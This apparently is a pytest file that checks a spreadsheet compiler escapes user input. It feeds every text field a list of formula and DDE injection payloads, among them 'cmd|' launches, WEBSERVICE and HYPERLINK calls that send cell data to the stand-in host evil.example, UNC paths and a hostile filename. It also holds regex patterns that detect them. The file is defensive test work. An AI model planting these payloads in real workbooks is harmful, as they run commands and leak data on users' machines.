"""Every workbook that we write is searched: no formula comes of what a user typed, and no link
leads out of the project.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from io import BytesIO
from itertools import cycle
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from lxml import etree
from support.packages import unpacked
from support.projects import Form, Project, Row, small

from compiler.cli.main import main
from compiler.schema.structure import LISTS_SHEET

EVIL = "evil.example"
"""Stands in each text that would do harm as a formula or as a link."""

INJECTIONS = (
    f'=HYPERLINK("http://{EVIL}/"&A1,"点此")',
    f"=cmd|' /C start {EVIL}'!A0",
    f"+cmd|' /C start {EVIL}'!A0",
    f"-2+3+cmd|' /C {EVIL}'!A0",
    f"@SUM(1+1)*cmd|' /C {EVIL}'!A0",
    f'=WEBSERVICE("http://{EVIL}")',
    f'=DDE("cmd";"/C {EVIL}";"1")',
    f"\t=1+{EVIL}",
    f"{{=1+{EVIL}}}",
    f"http://{EVIL}/a",
    f"https://{EVIL}/a b#c",
    f"ftp://{EVIL}",
    f"mailto:a@{EVIL}",
    f"internal:'{EVIL}'!A1",
    f"external:\\\\{EVIL}\\share\\a.xlsx",
    f"file://{EVIL}/a",
    f"\\\\{EVIL}\\share",
    f'"><f>1+{EVIL}</f><c r="',
    f"]]><f>{EVIL}</f>",
    f"_x003D_1+{EVIL}",
    f"'=1+{EVIL}",
)
"""Texts that a spreadsheet may take for something else."""

CELLS = r"'[\u4e00-\u9fff]+'!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+"
DRAWN_TOGETHER = re.compile(
    rf'IFERROR\(INDEX\(({CELLS}),MATCH\(0,COUNTIF\(\$[A-Z]+\$\d+:[A-Z]+\d+,\1\)\+\(\1=""\),0\)\),""\)'
)
"""The one formula whose result is what was typed: it names cells, and shows the text in one."""

NUMERALS = ("nan", "-inf", "１２", "1_0", "12", " 7 ")
"""Texts that Python reads as numbers; stored as such, most of them are none to Excel, which then
calls the workbook damaged.
"""

FORM_FIELDS = ("主题句", "进展情况", "填报人", "联系电话", "审核人", "审签人", "有关情况说明", "下一步措施", "完成时限", "事项名称", "完成状态", "完成日期")  # fmt: skip
TEXT_COLUMNS = ("整改措施", "整改目标", "牵头领导", "方面", "类别", "问题", "小标题", "文字", "联系人", "联系人电话", "别名", "文件标题", "指标名称", "计量单位", "勾稽关系", "处理方式")  # fmt: skip


def poisoned() -> Project:
    """Return a project in which every text that can be is an injection."""
    project = small()
    turn = cycle(INJECTIONS)

    def poison(row: Row, labels: tuple[str, ...]) -> None:
        row.update({label: next(turn) for label in labels if label in row})

    for label in ("通报标题", "发文机关", "联系电话", "通信地址"):
        project.information[label] = next(turn)
    for rows in project.tables.values():
        for row in rows:
            poison(row, TEXT_COLUMNS)
    for form in project.forms.values():
        poison(form.fields, FORM_FIELDS)
        for rows in form.tables.values():
            for row in rows:
                poison(row, TEXT_COLUMNS)
    hostile = f"={EVIL}'!A0"
    project.tables["单位名录"].append({"单位名称": hostile, "联系人": hostile})
    project.tables["措施清单"][3]["牵头单位"] = hostile
    del project.forms["区教育局/措施03-01.xlsx"]
    project.forms[f"区教育局/={EVIL}.xlsx"] = Form("措施09-09", dict.fromkeys(FORM_FIELDS, hostile))
    project.information["报送期限"] = "2025-01-10"
    return project


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project after every command that writes workbooks."""
    root = poisoned().write(tmp_path_factory.mktemp("outputs") / "项目")
    clean = small().write(tmp_path_factory.mktemp("clean"))
    day = ["--as-of", "2025-01-13"]
    main(["compile", str(root), "--draft"])
    main(["status", str(root), *day])
    main(["issue", str(root), *day])
    main(["return", str(root), *day])
    main(["diff", str(clean), str(root), "--output", str(root / "output")])
    return root


def sheet_part(content: bytes, name: str) -> str:
    """Return the name of the part that holds a sheet."""
    parts = unpacked(content)
    (sheet,) = (
        sheet
        for sheet in etree.fromstring(parts["xl/workbook.xml"]).iter("{*}sheet")
        if sheet.get("name") == name
    )
    own = sheet.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
    (target,) = (
        relation.get("Target")
        for relation in etree.fromstring(parts["xl/_rels/workbook.xml.rels"])
        if relation.get("Id") == own
    )
    return f"xl/{target}"


def workbooks(folder: Path) -> Iterator[tuple[Path, bytes]]:
    """Yield every workbook of a folder, those in archives too, as if they lay beside them."""
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".xlsx":
            yield path, path.read_bytes()
        elif path.suffix == ".zip":
            with zipfile.ZipFile(BytesIO(path.read_bytes())) as package:
                for name in package.namelist():
                    if name.endswith(".xlsx"):
                        yield path.parent / name, package.read(name)


def test_every_kind_of_workbook_is_there(written: Path) -> None:
    """Else the search would find nothing because there is nothing."""
    names = {path.name for path, _ in workbooks(written)}
    assert {
        "整改台账.xlsx",
        "核对报告.xlsx",
        "报送进度.xlsx",
        "变化对照.xlsx",
        "总台账.xlsx",
    } <= names
    contents = [content for _, content in workbooks(written)]
    assert (
        sum(EVIL.encode() in unpacked(content)["xl/sharedStrings.xml"] for content in contents) > 8
    )


def test_no_formula_comes_of_what_was_typed(written: Path) -> None:
    """Not in cells, names, validations, conditions or charts."""
    for path, content in workbooks(written):
        for part, xml in unpacked(content).items():
            if part.endswith(".xml"):
                for element in etree.fromstring(xml).iter("{*}f", "{*}formula", "{*}formula1", "{*}formula2", "{*}definedName"):  # fmt: skip
                    text = "".join(str(piece) for piece in element.itertext())
                    assert not re.search(
                        rf"{EVIL}|cmd\||HYPERLINK|WEBSERVICE|DDE|\[|https?:", text
                    ), (path, part, text)


def test_what_was_typed_is_text(written: Path) -> None:
    """A cell that shows an injection holds it as a text, and nothing else; or, in the hidden lists
    alone, holds a formula that draws it from such a cell. What a formula shows is never worked out.
    """
    drawn = 0
    for path, content in workbooks(written):
        for part, xml in unpacked(content).items():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                for cell in etree.fromstring(xml).iter("{*}c"):
                    if EVIL in "".join(str(piece) for piece in cell.itertext()):
                        where = (path, part, cell.get("r"))
                        formula = cell.find("{*}f")
                        if formula is None:
                            assert cell.get("t") == "inlineStr", where
                        else:
                            assert part == sheet_part(content, LISTS_SHEET), where
                            assert cell.get("t") == "str", where
                            assert DRAWN_TOGETHER.fullmatch(formula.text), where
                            drawn += 1
    assert drawn > 0


def test_what_is_picked_from_a_drawn_list_is_text(written: Path) -> None:
    """What is picked is as if typed: the cell is one for text, in which nothing is a formula."""
    book = openpyxl.load_workbook(written / "input_workbooks/总台账.xlsx")
    rules = [
        (sheet, rule)
        for sheet in book
        for rule in sheet.data_validations.dataValidation
        if "OFFSET" in str(rule.formula1)
    ]
    assert len(rules) > 5
    for sheet, rule in rules:
        for part in rule.sqref.ranges:
            for row, column in part.cells:
                assert sheet.cell(row, column).number_format == "@", (sheet.title, rule.sqref)


@pytest.mark.parametrize("text", NUMERALS)
def test_a_drawn_text_leaves_the_workbook_sound(tmp_path: Path, text: str) -> None:
    """What reads as a number is not stored as one for a formula's result."""
    project = small()
    for row in project.tables["措施清单"]:
        row["牵头领导"] = text
    register = (project.write(tmp_path / "项目") / "input_workbooks/总台账.xlsx").read_bytes()
    lists = etree.fromstring(unpacked(register)[sheet_part(register, LISTS_SHEET)])
    drawn = [cell for cell in lists.iter("{*}c") if cell.find("{*}f") is not None]
    assert drawn
    assert {(cell.get("t"), cell.findtext("{*}v")) for cell in drawn} == {("str", "")}


def test_no_link_leads_out_of_the_project(written: Path) -> None:
    """Links there are lead to the project's own files, by way of the folder."""
    followed = 0
    for path, content in workbooks(written):
        parts = unpacked(content)
        assert not [name for name in parts if re.search("externalLink|connections|vba|embed", name)]
        for name in (name for name in parts if name.endswith(".rels")):
            for relation in etree.fromstring(parts[name]):
                if relation.get("TargetMode") == "External":
                    target = unquote(relation.get("Target", "")).partition("#")[0]
                    assert not re.match(r"[a-z]+:|[/\\]", target, re.IGNORECASE), (path, target)
                    assert (path.parent / target).resolve().is_relative_to(written), (path, target)
                    followed += 1
    assert followed > 0
